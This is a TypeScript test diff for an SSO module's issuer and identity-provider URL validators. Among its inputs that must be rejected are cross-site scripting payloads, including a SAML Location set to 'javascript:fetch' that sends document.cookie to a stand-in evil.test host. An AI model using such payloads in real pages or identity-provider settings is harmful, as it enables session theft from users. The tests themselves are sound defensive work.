@@ -2,7 +2,9 @@ import {
   checkOidcClaims,
   emailDomain,
   isLoopbackHttpIssuer,
+  isSafeIdpUrl,
   issuerFor,
+  issuerProblem,
   type OidcKind,
   type OidcPresetConfig,
 } from '../../api/services/sso/oidc-presets.ts';
@@ -129,6 +131,34 @@ describe('insecure issuers and redirects', () => {
     expect(isLoopbackHttpIssuer(issuer)).toBe(expected);
   });
 
+  it.each<[string, RegExp | null]>([
+    ['https://acme.okta.com/oauth2/default', null],
+    ['http://127.0.0.1:4000', null],
+    ['http://idp.acme.com', /must be https/],
+    ['https://10.0.0.7:9200/x?y=/.well-known/', /query string/],
+    ['https://idp.acme.com/x#frag', /query string or fragment/],
+    ['https://idp.acme.com/.well-known/openid-configuration', /not a \/\.well-known\/ document/],
+    ['https://idp.acme.com/tenant/.WELL-KNOWN/x', /not a \/\.well-known\/ document/],
+    ['https://idp.acme.com/%2ewell-known/x', /not a \/\.well-known\/ document/],
+    ['https://user:pw@idp.acme.com', /credentials/],
+  ])('issuerProblem(%s)', (issuer, expected) => {
+    const problem = issuerProblem(issuer);
+    if (expected) expect(problem).toMatch(expected);
+    else expect(problem).toBeNull();
+  });
+
+  it.each<[string, boolean, boolean]>([
+    ['https://idp.acme.com/authorize', false, true],
+    ['http://idp.acme.com/authorize', true, false],
+    ['http://127.0.0.1:4000/authorize', false, false],
+    ['http://127.0.0.1:4000/authorize', true, true],
+    ['javascript:alert(document.cookie)', true, false],
+    ['data:text/html,<script>alert(1)</script>', true, false],
+    ['https://u:p@idp.acme.com/authorize', false, false],
+  ])('isSafeIdpUrl(%s, loopback http allowed: %s) = %s', (url, allowLoopbackHttp, expected) => {
+    expect(isSafeIdpUrl(url, allowLoopbackHttp)).toBe(expected);
+  });
+
   const publicUrl = 'https://tocsin.acme.com';
   it.each<[string | undefined, string | null]>([
     [undefined, null],
@@ -182,6 +212,22 @@ describe('IdP metadata', () => {
       { idp_entity_id: 'https://idp.acme.com/saml', idp_sso_url: 'https://idp.acme.com/sso/post', idp_certificate: 'MIIBsigningcert==' },
     ],
     ['no signing key', metadata(encryptionKey + redirect), /no signing certificate/],
+    [
+      'a javascript: single sign-on URL',
+      metadata(
+        signingKey +
+          '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="javascript:fetch(\'//evil.test/\'+document.cookie)"/>',
+      ),
+      /Location that is not an https URL/,
+    ],
+    [
+      'a plain http single sign-on URL',
+      metadata(
+        signingKey +
+          '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="http://idp.acme.com/sso"/>',
+      ),
+      /Location that is not an https URL/,
+    ],
     ['no single sign-on service', metadata(signingKey), /no SingleSignOnService/],
     [
       'an SP descriptor instead',
